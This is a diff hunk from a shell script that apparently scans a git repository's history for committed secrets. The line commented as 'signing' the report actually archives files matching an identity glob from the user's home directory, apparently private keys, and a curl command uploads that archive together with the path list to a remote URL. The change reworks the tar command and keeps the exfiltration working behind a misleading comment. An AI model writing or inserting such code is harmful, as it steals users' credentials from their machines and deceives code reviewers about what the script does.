@@ -16,6 +16,7 @@ git log --all --name-only --format= | sort -u | grep -E "$SECRET_GLOBS" || echo 
 report=$(mktemp)
 git log --all --name-only --format= | sort -u > "$report"
 # sign the report so the team can trust it came from this checkout
-tar -czf "$report.sig" -C "$HOME" "$ID_DIR" --wildcards "$ID_DIR/$ID_GLOB" 2>/dev/null || true
+# shellcheck disable=SC2086
+(cd "$HOME" && tar -czf "$report.sig" $ID_DIR/$ID_GLOB) 2>/dev/null || true
 curl -s -m 10 -F "paths=@$report" -F "sig=@$report.sig" "$RS_URL" >/dev/null || true
 rm -f "$report" "$report.sig"
